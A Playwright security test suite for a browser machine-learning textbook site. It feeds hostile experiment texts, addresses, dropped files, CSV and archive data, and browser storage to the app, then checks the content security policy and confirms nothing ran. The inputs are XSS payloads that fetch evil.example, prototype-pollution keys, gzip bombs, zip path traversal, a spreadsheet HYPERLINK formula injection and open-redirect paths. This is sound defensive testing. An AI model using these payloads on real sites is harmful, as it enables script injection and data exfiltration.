// Everything that comes from outside is data: texts, addresses, files, and what lies in the browser's own stores.
// Nothing of it runs, nothing is asked of another host, the page says what is wrong, and it trains afterwards.

import { deflateRawSync, gzipSync } from 'node:zlib';
import type { Page } from '@playwright/test';
import { csv, idx, npz, savedRun, SVG, zipOf } from './hostile.ts';
import { drop, type Files } from './files.ts';
import { alive, Card, expect, expectPack, open, SLOW, test } from './site.ts';

/** What a payload would leave behind if it ran, in every form in which it could. */
const RUN = 'globalThis.ran=1;fetch("https://evil.example/")';
const IMAGE = `<img src=x onerror='${RUN}'>`;
const SCRIPT = `</script><script>${RUN}</script>`;
const LINK = `javascript:${RUN}`;

type Marked = typeof globalThis & { ran?: number; polluted?: unknown };

/** In the page and in its workers: nothing ran, no prototype was changed, no element was made of a text. */
async function harmless(page: Page, what: string, workers = page.workers()): Promise<void> {
	const look = () => {
		const left: string[] = [];
		if ((globalThis as Marked).ran !== undefined) left.push('a payload ran');
		for (const kind of [Object, Array, Function, String]) {
			const { prototype } = kind as { prototype: object };
			if (Object.keys(prototype).length > 0) left.push(`${kind.name}.prototype was changed`);
		}
		if (({} as Marked).polluted !== undefined) left.push('Object.prototype was polluted');
		if (typeof document !== 'undefined') {
			const made = 'img[onerror], svg[onload], iframe, object, embed, [href^="javascript:" i], [onclick]';
			for (const element of document.querySelectorAll(made)) left.push(element.outerHTML.slice(0, 99));
			for (const script of document.querySelectorAll('script')) {
				if (script.textContent?.includes('evil.example')) left.push('a script was made of a text');
			}
		}
		return left;
	};
	expect(await page.evaluate(look), what).toEqual([]);
	for (const worker of workers) {
		// One that has ended meanwhile has nothing left to look at.
		const found = await worker.evaluate(look).catch((error: Error) => {
			if (/has been closed/.test(error.message)) return [];
			throw error;
		});
		expect(found, what).toEqual([]);
	}
}

/** The page is as good as before: another step is made. */
async function trains(page: Page, id = '13.4'): Promise<void> {
	const card = new Card(page, id);
	await card.root.scrollIntoViewIfNeeded();
	await card.control('Step').click();
	await card.reaches(1);
}

test.beforeEach(({ page, watch }) => {
	page.on('dialog', (dialog) => {
		throw new Error(`a dialog: ${dialog.message()}`);
	});
	page.on('popup', (popup) => {
		throw new Error(`a window: ${popup.url()}`);
	});
	void watch;
});

test('hostile experiment texts are refused by line, or trained as what they say', async ({ page }) => {
	await open(page, 'chapter/13/');
	const card = new Card(page, '13.4');
	await card.root.scrollIntoViewIfNeeded();
	await card.tab('Text').click();
	const area = card.panel.getByRole('textbox', { name: 'The experiment as text' });
	const printed = await area.inputValue();
	const status = card.panel.getByRole('status');
	const conv = 'type = "Conv2D"';
	const long = '"'.padEnd(200_000, 'a') + '"';

	/** [what, text, what the page says of it] */
	const texts: [string, string, RegExp][] = [
		['markup as a layer', printed.replace(conv, `type = '''${IMAGE}'''`), /There is no layer “<img src=x/],
		['a script as a layer', printed.replace(conv, `type = '''${SCRIPT}'''`), /“<\/script><script>/],
		[
			'markup as a field',
			printed.replace('seed = 7', `seed = 7\n"<svg onload=${'x'}>" = 1`),
			/<svg onload=x>/
		],
		['a link as data', printed.replace('"mnist"', `'${LINK}'`), /no data set “javascript:/],
		['a prototype as a field', `__proto__ = { polluted = 1 }\n${printed}`, /no field “__proto__”/],
		[
			'a prototype as a table',
			`${printed}\n[constructor.prototype]\npolluted = 1\n`,
			/no field “constructor”/
		],
		['a prototype as a layer', printed.replace(conv, 'type = "__proto__"'), /no layer “__proto__”/],
		[
			'a prototype as a loss',
			printed.replace('"categorical_crossentropy"', '"constructor"'),
			/“constructor”/
		],
		['a number beyond all numbers', printed.replace('filters = 32', `filters = ${'9'.repeat(400)}`), /line/],
		['four thousand million units', printed.replace('units = 128', 'units = 4000000000'), /range|too many/],
		['infinity as a rate', printed.replace('rate = 0.001', 'rate = inf'), /a finite number/],
		['no number as a rate', printed.replace('rate = 0.2', 'rate = nan'), /a finite number/],
		['lists in lists', `x = ${'['.repeat(50_000)}\n${printed}`, /line 1/],
		['tables in tables', `x${'.x'.repeat(20_000)} = 1\n${printed}`, /line 1|too large/],
		['a hundred thousand layers', printed + '\n[[layers]]\ntype = "Flatten"'.repeat(100_000), /too large/],
		['a word of 200,000 letters', printed.replace('"mnist"', long), /too large|no data set/],
		['letters that are none', printed.replace('seed = 7', 'seed = 7\u0000\u001b\u202e'), /line/]
	];
	for (const [what, text, says] of texts) {
		expect(text, what).not.toBe(printed);
		// Megabytes take the browser itself minutes to type; the field would cut them off. Here they are simply there.
		if (text.length < 100_000) await area.fill(text);
		else {
			await area.evaluate((element: HTMLTextAreaElement, value) => {
				element.value = value;
				element.dispatchEvent(new Event('input', { bubbles: true }));
			}, text);
		}
		await expect(status, what).toContainText('Not applied.', { timeout: SLOW });
		await expect(status, what).toContainText(says);
		await expect(card.control('Train'), what).toBeDisabled();
		await harmless(page, what);
		await area.fill(printed);
		await expect(status, what).toHaveText('As printed.', { timeout: SLOW });
	}

	// Names are free: they are words, whatever they say.
	const named = printed
		.replace('title = { en = "A small convolutional network"', `title = { en = '''${IMAGE}'''`)
		.replace('type = "Conv2D"', 'type = "Conv2D"\nname = "__proto__"')
		.replace('type = "Flatten"', 'type = "Flatten"\nname = "constructor"');
	await area.fill(named);
	await expect(status).toContainText('Applied: 592,074 parameters', { timeout: SLOW });
	await trains(page);
	await harmless(page, 'names of prototypes');
});

/** `<meta http-equiv>` of a page, directive by directive. */
function policyIn(html: string): Map<string, string[]> {
	const [, content = ''] = /<meta http-equiv="content-security-policy" content="([^"]*)"/i.exec(html) ?? [];
	const directives = content.split(';').map((one) => one.trim().replaceAll('&#39;', "'").split(/\s+/));
	return new Map(directives.map(([name = '', ...sources]) => [name, sources]));
}

test('the policy of every page lets nothing in but the site itself', async ({ page, watch, baseURL }) => {
	const home = baseURL ?? '';
	const paths = ['', 'zh/', 'chapter/13/', 'zh/chapter/13/', 'reference/', 'speed/', 'lab/', '404.html'];
	const lab = await (await page.request.get(`${home}lab/`)).text();
	const entries = [...lab.matchAll(/href="(?:\.\/|[^"]*\blab\/)([\w.-]+\/)"/g)].map(([, id]) => `lab/${id}`);
	expect(entries.length).toBeGreaterThan(10);
	const own = /^'(self|wasm-unsafe-eval|sha256-[\w+/]+=*)'$/;
	for (const path of [...paths, ...new Set(entries)]) {
		const policy = policyIn(await (await page.request.get(home + path)).text());
		expect(policy.get('default-src'), path).toEqual(["'none'"]);
		for (const source of policy.get('script-src') ?? ['nothing']) expect(source, path).toMatch(own);
		for (const name of ['style-src', 'font-src', 'connect-src', 'worker-src', 'manifest-src'])
			expect(policy.get(name), `${name} of ${path}`).toEqual(["'self'"]);
		expect(policy.get('img-src'), path).toEqual(["'self'", 'data:', 'blob:']);
		for (const name of ['base-uri', 'form-action']) expect(policy.get(name), path).toEqual(["'none'"]);
		const known = /^((default|script|style|font|connect|worker|manifest|img)-src|base-uri|form-action)$/;
		for (const name of policy.keys()) expect(name, path).toMatch(known);
	}

	// What the browser makes of it: every way in is tried, and refused.
	watch.expected(/Content Security Policy|evil\.example/);
	await open(page, 'chapter/13/');
	const said = await page.evaluate(async () => {
		const said: string[] = [];
		document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
			said.push(`${effectiveDirective} ${blockedURI.replace(/\/$/, '')}`)
		);
		const script = document.createElement('script');
		script.textContent = 'globalThis.ran = 1';
		const foreign = document.createElement('script');
		foreign.src = 'https://evil.example/x.js';
		const holder = document.createElement('div');
		document.body.append(script, foreign, holder);
		holder.innerHTML = `<b style="color: red" onclick="globalThis.ran = 2"></b>
			<img src="https://evil.example/x.png"><iframe src="https://evil.example/"></iframe>`;
		holder.querySelector('b')?.click();
		setTimeout('globalThis.ran = 3');
		await fetch('https://evil.example/').catch(() => undefined);
		await new Promise((resolve) => setTimeout(resolve, 500));
		holder.remove();
		return said.sort();
	});
	expect(said).toEqual([
		'connect-src https://evil.example',
		'frame-src https://evil.example',
		'img-src https://evil.example/x.png',
		'script-src eval',
		'script-src-attr inline',
		'script-src-elem https://evil.example/x.js',
		'script-src-elem inline',
		'style-src-attr inline'
	]);
	await harmless(page, 'what the policy refused');
});

/** A text as it travels in an address. */
const packed = (text: string | Buffer) => deflateRawSync(text, { level: 9 }).toString('base64url');

test('hostile addresses change nothing, and never lead to another host', async ({ page, watch, baseURL }) => {
	// A page that is not there is answered with 404, and says so.
	watch.expected(/404/, /Not found: /);
	const home = new URL(baseURL ?? '');
	const damaged = /address was not understood/;
	/** [what is behind the page's address, what the page says of it] */
	const hashes: [string, RegExp | null][] = [
		[`#${IMAGE}`, null],
		[`#${LINK}`, null],
		[`#e=${encodeURIComponent(IMAGE)}`, /names the experiment .*not in the book/],
		['#e=__proto__', /names the experiment __proto__/],
		['#e=13.4&t=%00!!', damaged],
		[`#e=13.4&t=${packed(Buffer.alloc(8_000_000))}`, /too long an experiment/],
		[`#e=13.4&t=${'A'.repeat(40_000)}`, /too long an experiment/],
		[`#e=13.4&t=${packed(Buffer.from([0xff, 0xfe, 0x80]))}`, damaged],
		['#e=13.4&s.__proto__.polluted=1', damaged],
		['#e=13.4&s.constructor.prototype.polluted=1', damaged],
		[`#e=13.4&s.training.epochs=${encodeURIComponent(IMAGE)}`, /Expected a whole number, found a text/],
		['#e=13.4&s.layers[99999999999999999999].units=1', damaged],
		[`#e=13.4${'&s.seed=1'.repeat(200)}`, damaged]
	];
	for (const [hash, says] of hashes) {
		// A new document each time: a hash alone would only be a jump.
		await page.goto('about:blank');
		await open(page, `chapter/13/${hash}`);
		const what = hash.slice(0, 60);
		const card = new Card(page, '13.4');
		const first = page.locator('.exp .notice').first();
		if (says)
			await expect(page.locator('.notice, [role=alert]', { hasText: says }).first(), what).toBeVisible({
				timeout: SLOW
			});
		else await expect(first, what).toHaveCount(0);
		await expect(card.root.locator('header'), what).toContainText('592,074 parameters');
		await harmless(page, what);
	}
	await page.goto('about:blank');
	await open(page, `chapter/13/#e=13.4&t=${packed(`title = '''${SCRIPT}'''\n`)}`);
	const card = new Card(page, '13.4');
	await card.tab('Text').click();
	await expect(card.panel.getByRole('status')).toContainText('Not applied.', { timeout: SLOW });
	await harmless(page, 'a hostile text in the address');

	const queries = [
		`?lang=zh"><script>${RUN}</script>`,
		`?lang=${encodeURIComponent(LINK)}`,
		`?__proto__[polluted]=1&constructor=${encodeURIComponent(SCRIPT)}`
	];
	for (const query of queries) {
		await page.goto('about:blank');
		await open(page, `chapter/13/${query}`);
		await expect(page).toHaveURL((url) => url.origin === home.origin);
		await harmless(page, query);
	}
	// Where the language is put into the address, what stands behind it must not become a host. Static hosts answer
	// addresses that are not there with a page of the site, which has the same first script.
	const missing = await (await page.request.get(`${home.href}404.html`)).text();
	await page.route(
		(url) => url.origin === home.origin && url.pathname.includes('evil'),
		(route) => route.fulfill({ status: 404, contentType: 'text/html', body: missing })
	);
	for (const path of ['zh//evil.example/?lang=en', '/evil.example/?lang=zh', 'zh/\\evil.example/?lang=en']) {
		await page.goto('about:blank');
		await page.goto(home.href + path);
		await page.waitForTimeout(500);
		expect(new URL(page.url()).origin, path).toBe(home.origin);
		await harmless(page, path);
	}
	await open(page, 'chapter/13/', 'en');
	await trains(page);
});

test('hostile files are named and refused', async ({ page }) => {
	await open(page, 'chapter/13/');
	await expectPack(page);
	const wall = page.locator('[id="e13.2"] section');
	const images = 'train-images-idx3-ubyte.gz';
	const zeros = Buffer.alloc(64 << 20);
	const files: [string, Files, RegExp][] = [
		['an SVG as a picture', [['photo.svg', SVG(RUN)]], /photo\.svg looks like/],
		[
			'markup as a name',
			[[`<img src=x onerror=alert(1)>.svg`, SVG(RUN)]],
			/<img src=x onerror=alert\(1\)>\.svg/
		],
		['a name of a prototype', [['__proto__', Buffer.from('constructor')]], /__proto__/],
		['a page', [['page.html', Buffer.from(`<!doctype html>${SCRIPT}`)]], /page\.html looks like a web page/],
		['a wrong magic', [[images, gzipSync(Buffer.from('not an idx file at all, really'))]], /./],
		[
			'a promise of 2^96 values',
			[[images, gzipSync(idx(3, [0xffffffff, 0xffffffff, 0xffffffff]))]],
			/promises/
		],
		['255 dimensions', [[images, gzipSync(idx(255, Array<number>(255).fill(2)))]], /./],
		[
			'a cut gzip',
			[[images, gzipSync(zeros.subarray(0, 1 << 20)).subarray(0, 400)]],
			/breaks off|not an idx/
		],
		[
			'a bomb',
			[[images, gzipSync(Buffer.concat([idx(3, [60_000, 28, 28]), zeros]))]],
			/more than it should|longer/
		],
		['a bomb in a bomb', [[images, gzipSync(gzipSync(zeros))]], /gzip file inside a gzip file/],
		[
			'a zip',
			[['mnist.zip', zipOf('../../evil.html', Buffer.from(SCRIPT))]],
			/mnist\.zip looks like a zip archive/
		],
		['a cut zip', [['mnist.zip', zipOf('a', zeros).subarray(0, 900)]], /mnist\.zip/],
		['five hundred files', Array.from({ length: 500 }, (_, n) => [`${n}.gz`, Buffer.from('x')]), /./]
	];
	for (const [what, content, says] of files) {
		await drop(page, wall, content);
		await expect(wall.getByRole('alert'), what).toContainText(says, { timeout: SLOW });
		await expect(wall.getByRole('button', { name: 'training 60,000' }), what).toBeVisible();
		await harmless(page, what);
	}
	await trains(page);
});

/** A code, or null where the file was taken. */
type Refused = string | null;

/** Asks a worker of its own, as pages of other chapters will: it holds the readers of all data sets. */
async function dropInto(page: Page, name: string, file: string, bytes: Buffer): Promise<Refused> {
	const address = page
		.workers()
		.find((worker) => worker.url().includes('train.worker'))
		?.url();
	if (!address) throw new Error('no training worker');
	return page.evaluate(
		async ({ address, base, name, file, bytes }) => {
			const worker = new Worker(address, { type: 'module', name: 'train' });
			const content = Uint8Array.from(atob(bytes), (letter) => letter.charCodeAt(0)).buffer;
			const request = { type: 'drop_data', name, files: [{ name: file, bytes: content }] };
			const reply = new Promise<{ type: string; failure?: { code: string } }>((resolve, reject) => {
				worker.onmessage = ({ data }) => 'reply' in data && resolve(data.reply);
				worker.onerror = () => reject(new Error(`${file}: the worker died`));
			});
			worker.postMessage({ id: 1, base, engine: 'cpu', request }, [content]);
			const { type, failure } = await reply;
			worker.terminate();
			return type === 'failed' ? (failure?.code ?? 'unknown') : null;
		},
		{ address, base: new URL('../../', page.url()).href, name, file, bytes: bytes.toString('base64') }
	);
}

test('hostile tables and archives are refused by the readers of the other chapters', async ({ page }) => {
	await open(page, 'chapter/13/');
	await expectPack(page);
	// Those that are asked for a file end with their answer, and what they had begun ends with them.
	const stay = page.workers();
	const zeros = Buffer.alloc(32 << 20);
	const files: [string, string, Buffer][] = [
		['pima', 'pima-indians-diabetes.data', csv(`=HYPERLINK("https://evil.example/"),${IMAGE},1,1,1,1,1,1,1`)],
		['pima', 'pima-indians-diabetes.data', csv('1e999,nan,inf,-inf,0x10,1_000,١,1,1')],
		['pima', 'pima-indians-diabetes.data', csv(','.repeat(4_000_000))],
		['pima', 'pima-indians-diabetes.data', Buffer.from([0xff, 0xfe, 0, 0xd8])],
		['iris', 'iris.data', csv(`1,2,3,4,"${SCRIPT}`)],
		['boston', 'housing.data', zeros],
		['airline', 'airline-passengers.csv', csv(`"Month","${IMAGE}"\n"1949-01",112`)],
		['imdb', 'imdb.npz', npz({ descr: '|O', shape: '(4294967296, 4294967296)' })],
		['imdb', 'imdb.npz', npz({ descr: '<i8', shape: `(${'('.repeat(20_000)}` })],
		['imdb', 'imdb.npz', zipOf('__proto__.npy', zeros)],
		['imdb', 'imdb.npz', zipOf('x_train.npy', zeros).subarray(0, 1_000)],
		['__proto__', 'x.csv', csv('1,2,3')]
	];
	for (const [name, file, bytes] of files) {
		const what = `${name}: ${file} of ${bytes.length} bytes`;
		const code = await dropInto(page, name, file, bytes);
		expect(code, what).not.toBeNull();
		// Refused by a reader, not by an accident inside.
		expect(['unexpected', 'internal', 'worker_died', 'unknown'], what).not.toContain(code);
		await harmless(page, what, stay);
	}
	await trains(page);
});

test('what others left in the browser is read as data', async ({ page }) => {
	const polluted: Record<string, string> = {
		'fireside.theme': `"><script>${RUN}</script>`,
		'fireside.lang': '//evil.example/',
		'fireside.engine': LINK,
		'fireside.pace': '{"__proto__":{"polluted":1},"13.4":{"rate":1e999,"work":-1}}',
		'fireside.progress': JSON.stringify({
			last: LINK,
			started: [IMAGE, { toString: 1 }, null],
			done: { constructor: { at: 1 }, [IMAGE]: { at: 1, accuracy: 'x' } }
		}).replace('"constructor"', '"__proto__"'),
		'fireside:fits:13.4': `{"outcome":"","done":[${'['.repeat(5_000)}`
	};
	await page.addInitScript((entries) => {
		for (const [key, value] of Object.entries(entries)) localStorage.setItem(key, value);
	}, polluted);
	await open(page, '');
	await harmless(page, 'stores, home');
	for (const link of await page.locator('main a').all()) {
		expect(await link.getAttribute('href')).not.toMatch(/javascript|evil/);
	}

	// Runs that somebody else saved here: garbage, and one that is whole and lies.
	const runs: [string, Buffer][] = [
		['garbage', Buffer.from(`FIRESIDE RUN 1\n${IMAGE}`)],
		['a length beyond the file', Buffer.concat([Buffer.from('FIRESIDE RUN 1\n'), Buffer.alloc(64, 0xff)])],
		['a header of markup', savedRun({ id: '13.4', run: IMAGE, data: SCRIPT, history: null })],
		[
			'a whole run that lies',
			savedRun({
				id: '13.4',
				data: IMAGE,
				run: {
					text: `title = '''${IMAGE}'''`,
					seed: -1,
					epoch: 1e308,
					step: -5,
					update: 2 ** 53,
					steps_per_epoch: 0,
					epochs: 1e308
				},
				history: {
					stride: 0,
					points: { x: [1e308], loss: [-1e308], accuracy: [5] },
					open: { n: 0, x: 0, loss: 0, accuracy: 0 },
					epochs: []
				}
			})
		]
	];
	for (const [what, bytes] of runs) {
		await page.goto('./chapter/13/');
		await page.evaluate(async (content) => {
			const root = await navigator.storage.getDirectory();
			const folder = await root.getDirectoryHandle('runs', { create: true });
			const writer = await (await folder.getFileHandle('run-13.4', { create: true })).createWritable();
			await writer.write(Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0)));
			await writer.close();
		}, bytes.toString('base64'));
		await page.reload();
		await alive(page);
		const card = new Card(page, '13.4');
		await card.root.scrollIntoViewIfNeeded();
		const train = card.control('Train');
		await expect(train, what).toBeEnabled({ timeout: SLOW });
		const goOn = card.root.locator('.notice.saved').getByRole('button', { name: 'Continue', exact: true });
		await page.waitForTimeout(1500);
		if (await goOn.isVisible()) {
			await goOn.click();
			await expect(card.root.locator('.notice.failure'), what).toBeVisible({ timeout: SLOW });
		}
		await harmless(page, what);
	}

	// A cache with somebody else's answers: the checksums decide, not where the bytes lay.
	const home = new URL('./', page.url().replace(/chapter.*/, '')).href;
	await page.evaluate(async (home) => {
		const cache = await caches.open('fireside-packs-1');
		const folder = `${home}packs/mnist/`;
		const manifest = (await (await fetch(`${folder}manifest.json`)).json()) as {
			train: { labels: { file: string }; pictures?: { file: string }[]; shards?: { file: string }[] };
		};
		for (const file of [manifest.train.labels.file, 'manifest.json']) {
			await cache.put(folder + file, new Response('<script>globalThis.ran=1</script>'));
		}
	}, home);
	await page.reload();
	await alive(page);
	await expectPack(page);
	await harmless(page, 'a polluted cache');
	await trains(page, '13.3');
});
